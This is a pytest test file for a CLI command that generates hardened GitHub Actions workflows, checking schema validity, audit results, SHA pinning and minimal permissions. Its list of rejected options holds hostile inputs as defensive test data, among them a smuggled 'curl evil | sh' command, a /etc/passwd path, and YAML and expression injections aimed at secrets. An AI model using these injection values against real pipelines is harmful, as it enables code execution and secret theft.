"""``alpinist ci init github`` and the composite ``action.yml``: the workflow it writes is valid (GitHub's
workflow schema through check-jsonschema), has no zizmor finding (offline, auditor persona: every audit),
pins every action by commit SHA, grants each job only what it needs and puts no expression into a
``run:`` script; bad options are refused with 64, an existing file without ``--force`` with 1. The example
service's workflow is exactly what the command writes today.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from alpinist.ci.github import ACTIONS, GitHubOptions, render_workflow
from alpinist.cli.app import main as cli_main
from alpinist.errors import CIOptionError
from tests.conftest import REPO

BIN = Path(sys.executable).parent
EXAMPLE = REPO / "examples" / "python-spring-equivalent"
EXAMPLE_WORKFLOW = EXAMPLE / ".github" / "workflows" / "cve-monitoring.yml"
# The command in the example workflow's header, run from the example's directory.
EXAMPLE_ARGS = [
    "ci",
    "init",
    "github",
    "--image",
    "python-spring-equivalent",
    "--dockerfile",
    "Dockerfile.alpine",
]

OPTION_SETS = {
    "defaults": GitHubOptions(),
    "registry-image": GitHubOptions(
        image="ghcr.io/acme/shop-api:ci",
        dockerfile="services/api/Dockerfile",
        context="services/api",
        baseline="security/alpinist-baseline.json",
        sbom_dir="security/sboms",
        branch="release/2.x",
        alpinist="git+https://github.com/acme/alpinist@" + "a" * 40,
    ),
}


def run_cli(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exc:
        cli_main(args)
    out, err = capsys.readouterr()
    code = exc.value.code
    return (code if isinstance(code, int) else 1), out, err


def tool(name: str) -> str:
    found = BIN / name
    if found.exists():
        return str(found)
    path = shutil.which(name)
    if path is None:
        pytest.fail(f"{name} is not installed (pip install -e '.[test]')")
    return path


def check_schema(path: Path, schema: str) -> None:
    proc = subprocess.run(
        [tool("check-jsonschema"), "--builtin-schema", schema, str(path)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr


def check_zizmor(path: Path) -> None:
    proc = subprocess.run(
        [tool("zizmor"), "--offline", "--persona", "auditor", "--no-progress", str(path)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "No findings to report" in proc.stdout, proc.stdout
    assert "suppressed" not in proc.stdout, proc.stdout


def all_steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


@pytest.mark.parametrize("name", sorted(OPTION_SETS))
def test_workflow_is_valid_and_has_no_zizmor_finding(tmp_path: Path, name: str) -> None:
    path = tmp_path / ".github" / "workflows" / "cve-monitoring.yml"
    path.parent.mkdir(parents=True)
    path.write_text(render_workflow(OPTION_SETS[name]), encoding="utf-8")
    check_schema(path, "vendor.github-workflows")
    check_zizmor(path)


def test_example_workflow_is_valid_and_has_no_zizmor_finding() -> None:
    check_schema(EXAMPLE_WORKFLOW, "vendor.github-workflows")
    check_zizmor(EXAMPLE_WORKFLOW)


def test_action_yml_is_valid_and_has_no_zizmor_finding() -> None:
    check_schema(REPO / "action.yml", "vendor.github-actions")
    check_zizmor(REPO / "action.yml")


def test_example_workflow_is_current(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The example's workflow is byte for byte what the command in its header writes today (regenerate it
    from the example's directory with ``--force`` when the template changes on purpose)."""
    monkeypatch.chdir(EXAMPLE)
    out = tmp_path / "cve-monitoring.yml"
    code, _, err = run_cli([*EXAMPLE_ARGS, "-o", str(out)], capsys)
    assert code == 0, err
    assert out.read_bytes() == EXAMPLE_WORKFLOW.read_bytes()
    assert " ".join(["alpinist", *EXAMPLE_ARGS]) in EXAMPLE_WORKFLOW.read_text(encoding="utf-8")


@pytest.mark.parametrize("name", sorted(OPTION_SETS))
def test_workflow_shape(name: str) -> None:
    options = OPTION_SETS[name]
    text = render_workflow(options)
    workflow = yaml.safe_load(text)
    on = workflow[True]  # YAML 1.1 reads the key `on` as a boolean
    assert set(on) == {"push", "pull_request", "schedule", "workflow_dispatch"}
    assert on["push"]["branches"] == [options.branch]
    assert workflow["permissions"] == {}
    assert "concurrency" in workflow
    assert workflow["env"]["IMAGE"] == options.image
    assert workflow["env"]["BASELINE"] == options.baseline
    assert workflow["env"]["SBOM_DIR"] == options.sbom_dir
    jobs = workflow["jobs"]
    assert jobs["image"]["permissions"] == {
        "contents": "read",
        "security-events": "write",
        "pull-requests": "write",
    }
    assert jobs["rescan"]["permissions"] == {"contents": "read", "actions": "read", "issues": "write"}
    build = next(
        s for s in jobs["image"]["steps"] if s.get("uses", "").startswith("docker/build-push-action@")
    )
    assert build["with"]["context"] == options.context
    assert build["with"]["file"] == options.dockerfile
    assert build["with"]["tags"] == options.image
    runs = "\n".join(s.get("run", "") for s in all_steps(workflow))
    assert 'alpinist gate "docker-archive:' in runs
    assert '--baseline "${BASELINE}" --fail-on high --format markdown' in runs
    assert 'alpinist rescan "${SBOM_DIR}" --fail-on high' in runs
    assert 'alpinist scan "sbom:' in runs and "--format sarif" in runs
    assert "gh pr comment" in runs and "gh issue create" in runs
    for step in all_steps(workflow):
        assert "${{" not in step.get("run", ""), step  # expressions go through env:, never into a script
        if step.get("uses", "").startswith("actions/checkout@"):
            assert step["with"]["persist-credentials"] is False


@pytest.mark.parametrize("path", ["workflow", "action"])
def test_every_action_is_pinned_by_commit_sha(path: str) -> None:
    text = render_workflow(GitHubOptions()) if path == "workflow" else (REPO / "action.yml").read_text()
    uses = re.findall(r"^\s*(?:- )?uses: (\S+)(.*)$", text, re.MULTILINE)
    assert uses
    for ref, comment in uses:
        action, _, sha = ref.partition("@")
        assert re.fullmatch(r"[0-9a-f]{40}", sha), ref
        assert ACTIONS[action] == (sha, comment.strip().removeprefix("# ")), ref


def test_action_yml_installs_this_repository_and_calls_gate_or_scan() -> None:
    action = yaml.safe_load((REPO / "action.yml").read_text(encoding="utf-8"))
    assert set(action["inputs"]) >= {"image", "format", "fail-on", "baseline", "args"}
    assert action["runs"]["using"] == "composite"
    steps = action["runs"]["steps"]
    install = next(s for s in steps if "pip install" in s.get("run", ""))
    assert install["env"]["ACTION_PATH"] == "${{ github.action_path }}"
    assert '"${ACTION_PATH}"' in install["run"]
    run = steps[-1]["run"]
    assert "alpinist gate" in run and "alpinist scan" in run
    for step in steps:
        assert "${{" not in step.get("run", ""), step


BAD_OPTIONS = [
    ["--image", "my app"],
    ["--image", "app\nname: evil"],
    ["--image", "app${{ github.event.issue.title }}"],
    ["--image", "App"],
    ["--image", ""],
    ["--dockerfile", "../Dockerfile"],
    ["--dockerfile", "/etc/passwd"],
    ["--context", "a dir"],
    ["--baseline", 'x"; curl evil | sh; "'],
    ["--sbom-dir", "${{ secrets.TOKEN }}"],
    ["--branch", "main\nx"],
    ["--alpinist", "latest"],
    ["--alpinist", "git+https://github.com/acme/alpinist@main"],
]


@pytest.mark.parametrize("args", BAD_OPTIONS, ids=[" ".join(a) for a in BAD_OPTIONS])
def test_bad_options_exit_64(args: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "w.yml"
    code, _, err = run_cli(["ci", "init", "github", *args, "-o", str(out)], capsys)
    assert code == 64, err
    assert f"Invalid value for '{args[0]}'" in err
    assert not out.exists()


def test_bad_output_name_exit_64(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run_cli(["ci", "init", "github", "-o", str(tmp_path / "workflow.txt")], capsys)
    assert code == 64, err
    assert "NAME.yml" in err


def test_existing_file_needs_force(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / ".github" / "workflows" / "cve-monitoring.yml"
    code, _, err = run_cli(["ci", "init", "github", "-o", str(out)], capsys)
    assert code == 0, err
    out.write_text("mine\n", encoding="utf-8")
    code, _, err = run_cli(["ci", "init", "github", "-o", str(out)], capsys)
    assert code == 1
    assert "exists: pass --force" in err
    assert out.read_text(encoding="utf-8") == "mine\n"
    code, _, err = run_cli(["ci", "init", "github", "-o", str(out), "--force"], capsys)
    assert code == 0, err
    assert out.read_text(encoding="utf-8") == render_workflow(GitHubOptions())


def test_stdout(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run_cli(["ci", "init", "github", "--image", "shop:1", "-o", "-"], capsys)
    assert code == 0
    assert out == render_workflow(GitHubOptions(image="shop:1"))


def test_options_value_validates_itself() -> None:
    with pytest.raises(CIOptionError) as exc:
        GitHubOptions(image="a'b")
    assert exc.value.exit_code == 64
    assert GitHubOptions(image="registry.local:5000/team/app:1.2").sbom_name == "app.json"


def test_ci_is_listed(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run_cli(["--help"], capsys)
    assert code == 0
    assert re.search(r"^\s+ci\b", out, re.MULTILINE)


def test_a_pypi_release_of_alpinist_is_warned_about_a_pinned_commit_is_not(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The name on PyPI belongs to another project (docs/ci.md): installing a release is said to be a risk."""
    code, out, err = run_cli(["ci", "init", "github", "-o", "-"], capsys)
    assert code == 0 and "ALPINIST_SPEC" in out
    assert "WARNING" in err and "belongs to another project" in err
    pinned = "git+https://github.com/acme/alpinist@" + "b" * 40
    code, out, err = run_cli(["ci", "init", "github", "-o", "-", "--alpinist", pinned], capsys)
    assert code == 0 and pinned in out and "WARNING" not in err
